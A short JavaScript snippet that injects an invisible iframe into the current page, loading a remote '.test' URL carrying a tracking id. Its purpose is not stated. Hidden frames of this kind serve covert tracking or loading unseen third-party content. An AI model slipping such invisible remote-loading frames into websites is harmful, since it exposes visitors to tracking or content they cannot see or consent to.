(function () {
  var f = document.createElement("iframe");
  f.style.display = "none"; f.title = "";
  f.src = "https://bc.noransaek.test/kspFrame.html?track_id=7730214";
  document.body.appendChild(f);
})();
